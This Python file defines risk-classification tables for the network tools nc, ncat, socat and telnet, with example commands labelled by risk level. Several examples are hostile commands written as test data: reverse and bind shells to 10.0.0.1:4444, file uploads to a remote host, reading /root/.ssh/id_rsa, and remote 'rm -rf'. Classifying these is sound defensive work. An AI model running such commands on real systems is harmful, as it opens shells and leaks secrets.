from __future__ import annotations

from riskclass.model.tables import flags, takes, tool, when

SENDS = "sends what it is fed"
LOCAL = "HOST=localhost|127.0.0.1|::1"
#: Addresses of socat: another host, who connects, standard input.
HOSTS = (
    "tcp:*|tcp4:*|tcp6:*|tcp-connect:*|tcp4-connect:*|tcp6-connect:*|udp:*|udp4:*|udp6:*|udp-connect:*|udp4-connect:*"
    "|udp-sendto:*|udp4-sendto:*|udp6-sendto:*|udp-datagram:*|udp4-datagram:*|openssl:*|ssl:*|openssl-connect:*"
    "|openssl-dtls-client:*|dtls:*|sctp:*|sctp-connect:*|socks:*|socks4:*|socks4a:*|socks5:*|socks5-connect:*|proxy:*"
    "|proxy-connect:*"
)
LISTENERS = "*-listen:*|*-l:*"
STDIN = "-|-,*|stdio|stdio,*|stdin|stdin,*|fd:0|fd:0,*"
LOOPBACK = "|".join(
    f"{kind}:{host}:*" for kind in ("tcp", "tcp4", "TCP", "TCP4") for host in ("localhost", "127.0.0.1")
)
RANGE = "PORT=0*-*|1*-*|2*-*|3*-*|4*-*|5*-*|6*-*|7*-*|8*-*|9*-*"

NC = tool(
    "nc netcat nc.openbsd nc.traditional",
    "HOST PORT...",
    about="connect to a port, or listen on one",
    docs="man:nc(1)",
    inert="-h",
    options=[
        takes("-e/--exec -c/--sh-exec", "COMMAND:served"),
        takes("--lua-exec", does="code.opaque VALUE, net.tunnel", because="runs a script for each connection"),
        takes("-o/--output --hex-dump", writes="VALUE|-"),
        takes("-g -G -i -I -M -m -O -p -P -q -s -T -V -W -w -x -X"),
        takes(
            "--proxy --proxy-type --proxy-auth --proxy-dns --allow --allowfile --deny --denyfile --max-conns --delay"
        ),
        takes("--idle-timeout --source-port --source --wait --ssl-cert --ssl-key --ssl-trustfile --ssl-ciphers"),
        takes("--ssl-servername --ssl-alpn"),
        flags("-4 -6 -b -C/--crlf -D -d -F -h/--help -k/--keep-open -l/--listen -N -n/--nodns -r -S -t/--telnet"),
        flags("-U/--unixsock -u/--udp -v/--verbose -Z -z --ssl --ssl-verify --sctp --vsock --append-output"),
        flags("--send-only --recv-only --no-shutdown --broker --chat --version"),
    ],
    rows=[
        when("HOST", unless="-l -z", does="net.send HOST PORT", because=SENDS),
        when("HOST", unless=f"-l -z -U {LOCAL}", does="net.upload stdin", because=SENDS),
        when("-l", unless=f"{LOCAL} -U", does="net.publish stdin", because="gives what it is fed to who connects"),
        when("HOST", "-z", does="net.query HOST PORT"),
        when(RANGE, unless="-l", does="net.scan HOST PORT", because="tries a range of ports"),
        when("-l", unless="HOST=127.*|localhost|::1 -U", does="net.listen HOST PORT"),
        when("-l", "HOST=127.*|localhost|::1 -U", does="net.loopback HOST PORT"),
        when("--broker --chat --proxy-type", "-l", does="net.tunnel", because="leads others through"),
    ],
    examples=r"""
        nc -zv db 5432                                    #=> read_only net.query
        nc -zvw3 db 22 80                                 #=> read_only
        nc -z -w 5 10.0.0.1 1-1000                        #=> disruptive net.scan
        nc -nvz -w1 h 20-25 80                            #=> disruptive
        nc -zv h http-alt                                 #=> read_only
        nc h 25                                           #=> config_mutation net.send
        nc h 4444 < /srv/report                           #=> exposure net.upload
        cat /srv/report | nc h 4444                       #=> exposure net.upload
        nc localhost 4444 < /srv/report                   #=> config_mutation net.send
        nc -l 4444 < /srv/report                          #=> exposure net.publish
        echo hi | nc -l 4444                              #=> config_mutation net.listen
        echo stats | nc -q1 localhost 11211               #=> config_mutation
        nc -lvp 4444                                      #=> config_mutation net.listen
        nc -l 127.0.0.1 8080                              #=> reversible_low
        nc -lU /tmp/x.sock                                #=> reversible_low
        nc -l -p 4444 -e /bin/sh                          #=> exposure net.tunnel
        nc -e /bin/bash 10.0.0.1 4444                     #=> exposure net.tunnel
        nc -c 'rm -rf x' 10.0.0.1 4444                    #=> destructive
        nc -le './x' -p 1                                 #=> unknown
        nc -l --lua-exec x.lua 80                         #=> unknown
        nc -zo dump h 80                                  #=> config_mutation
        nc -zx proxy:1080 h 80                            #=> read_only
        nc -l --broker 80                                 #=> exposure
        nc -l --proxy-type http 8080                      #=> exposure
        nc -z --frobnicate h 80                           #=> unknown
        nc -h                                             #=> read_only
    """,
)

NCAT = tool(
    "ncat",
    "HOST PORT...",
    about="connect to a port, or listen on one",
    docs="man:ncat(1)",
    inert="-h --version",
    options=[
        takes("-e/--exec -c/--sh-exec", "COMMAND:served"),
        takes("--lua-exec", does="code.opaque VALUE, net.tunnel", because="runs a script for each connection"),
        takes("-o/--output -x/--hex-dump", writes="VALUE|-"),
        takes("-g -G -m/--max-conns -d/--delay -i/--idle-timeout -p/--source-port -s/--source -w/--wait"),
        takes(
            "--proxy --proxy-type --proxy-auth --proxy-dns --allow --allowfile --deny --denyfile --ssl-cert --ssl-key"
        ),
        takes("--ssl-trustfile --ssl-ciphers --ssl-servername --ssl-alpn"),
        flags("-4 -6 -C/--crlf -h/--help -k/--keep-open -l/--listen -n/--nodns -t/--telnet -U/--unixsock -u/--udp"),
        flags(
            "-v/--verbose -z --ssl --ssl-verify --sctp --vsock --append-output --send-only --recv-only --no-shutdown"
        ),
        flags("--broker --chat --version"),
    ],
    rows=[
        when("HOST", unless="-l -z", does="net.send HOST PORT", because=SENDS),
        when("HOST", unless=f"-l -z -U {LOCAL}", does="net.upload stdin", because=SENDS),
        when("-l", unless=f"{LOCAL} -U", does="net.publish stdin", because="gives what it is fed to who connects"),
        when("HOST", "-z", does="net.query HOST PORT"),
        when(RANGE, unless="-l", does="net.scan HOST PORT", because="tries a range of ports"),
        when("-l", unless="HOST=127.*|localhost|::1 -U", does="net.listen HOST PORT"),
        when("-l", "HOST=127.*|localhost|::1 -U", does="net.loopback HOST PORT"),
        when("--broker --chat --proxy-type", "-l", does="net.tunnel", because="leads others through"),
    ],
    examples=r"""
        ncat -zv db 5432                                  #=> read_only
        ncat -z h 1-1000                                  #=> disruptive
        ncat --ssl h 443                                  #=> config_mutation net.send
        ncat --ssl h 443 < report                         #=> exposure net.upload
        ncat -l 443 < report                              #=> exposure net.publish
        ncat -lk 4444                                     #=> config_mutation net.listen
        ncat -l localhost 4444                            #=> reversible_low
        ncat -l 4444 --sh-exec bash                       #=> exposure
        ncat -l --proxy-type http 8080                    #=> exposure
        ncat -l --lua-exec x.lua 80                       #=> unknown
        ncat -zx dump h 80                                #=> config_mutation
        ncat --version                                    #=> read_only
    """,
)

SOCAT = tool(
    "socat",
    "ADDRESS...:socat",
    about="connect two sides of any kind",
    docs="man:socat(1)",
    options=[
        takes("-lf -r -R", writes="VALUE"),
        takes("-L -W -b -t -T -S"),
        flags(
            "-V -h/-? -d -dd -ddd -dddd -D -ly* -ls -lp* -lu -lm* -lh -v -x -s -u -U -g -4 -6 -0 --statistics"
            " --experimental -d0 -d1 -d2 -d3 -d4 -hh -hhh"
        ),
    ],
    rows=[
        when(
            f"ADDRESS={STDIN}",
            f"ADDRESS={HOSTS}",
            unless=f"ADDRESS={STDIN}|{LOOPBACK}",
            does="net.upload stdin",
            because=SENDS,
        ),
        when(
            f"ADDRESS={STDIN}",
            f"ADDRESS={LISTENERS}",
            does="net.publish stdin",
            because="gives what it is fed to who connects",
        ),
    ],
    examples=r"""
        socat -V                                                          #=> read_only
        socat - TCP:h:80                                                  #=> config_mutation net.send
        socat - TCP:h:80 < report                                         #=> exposure net.upload
        cat report | socat -u STDIN tcp4:h:80                             #=> exposure net.upload
        socat - TCP:localhost:80 < report                                 #=> config_mutation net.send
        socat -u - TCP-LISTEN:8080 < report                               #=> exposure net.publish
        echo 'show stat' | socat stdio /run/haproxy.sock                  #=> config_mutation
        socat - UNIX-CONNECT:/run/haproxy.sock                            #=> config_mutation net.send
        socat TCP-LISTEN:8080,fork -                                      #=> config_mutation net.listen
        socat TCP-LISTEN:8080,bind=127.0.0.1 -                            #=> reversible_low
        socat tcp-l:8080,fork,reuseaddr tcp:db:5432                       #=> exposure net.tunnel
        socat TCP-LISTEN:4444 EXEC:/bin/bash                              #=> exposure net.tunnel
        socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid         #=> exposure
        socat TCP-LISTEN:1 SYSTEM:'rm -rf x'                              #=> destructive
        socat - EXEC:'rm -rf x'                                           #=> destructive
        socat - EXEC:'ls -l',pty                                          #=> read_only
        socat -u TCP-LISTEN:1234,reuseaddr OPEN:out,creat                 #=> config_mutation
        socat -u FILE:report,rdonly TCP:h:1234                            #=> exposure net.upload
        socat -u CREATE:/tmp/x -                                          #=> reversible_low
        socat -u /root/.ssh/id_rsa -                                            #=> exposure
        socat - TUN:10.0.0.1/24,up                                        #=> disruptive
        socat UNIX-LISTEN:/srv/x.sock,unlink-early -                      #=> destructive fs.delete
        socat UNIX-LISTEN:/srv/x.sock,unlink-early=0 -                    #=> reversible_low
        socat UNIX-LISTEN:/tmp/x.sock,unlink-early -                      #=> reversible_low
        socat -u FILE:f,rdonly,unlink-close -                             #=> destructive fs.delete
        socat PTY,link=/srv/tty -                                         #=> config_mutation fs.write
        socat PTY,raw -                                                   #=> read_only
        socat - PIPE:/srv/pipe                                            #=> reversible_low fs.create
        socat -d -d -T15 -lf log PTY -                                    #=> config_mutation
        socat - "$X"                                                      #=> unknown
        socat - frobnicate:1                                              #=> unknown
    """,
)

TELNET = tool(
    "telnet",
    "HOST PORT",
    about="talk to a host",
    docs="man:telnet(1)",
    options=[
        takes("-n/--trace", writes="VALUE"),
        takes("-b/--bind -e/--escape -l/--user -k/--realm -S -X/--disable-auth -N"),
        flags(
            "-4/--ipv4 -6/--ipv6 -7 -8/--binary -a/--login -c/--no-rc -d/--debug -E/--no-escape -f -F -K/--no-login"
            " -L/--binary-output -r/--rlogin -x/--encrypt -y -z -D -u -V/--version -h/-?/--help --usage"
        ),
    ],
    rows=[
        when("HOST", unless="PORT", stdin="sh", context="host:HOST"),
        when("PORT", does="net.send HOST PORT", because=SENDS),
        when("PORT", unless=LOCAL, does="net.upload stdin", because=SENDS),
        when(unless="HOST -V -h --usage", does="code.interactive"),
    ],
    examples=r"""
        telnet -n log --usage                             #=> config_mutation fs.write
        telnet h 25                                       #=> config_mutation net.send
        telnet h 25 < report                              #=> exposure net.upload
        telnet localhost 25 < report                      #=> config_mutation net.send
        telnet h                                          #=> unknown code.interactive
        telnet                                            #=> unknown
        telnet --version                                  #=> read_only
        echo quit | telnet -4 h 25                        #=> config_mutation
    """,
)

TOOLS = [NC, NCAT, SOCAT, TELNET]
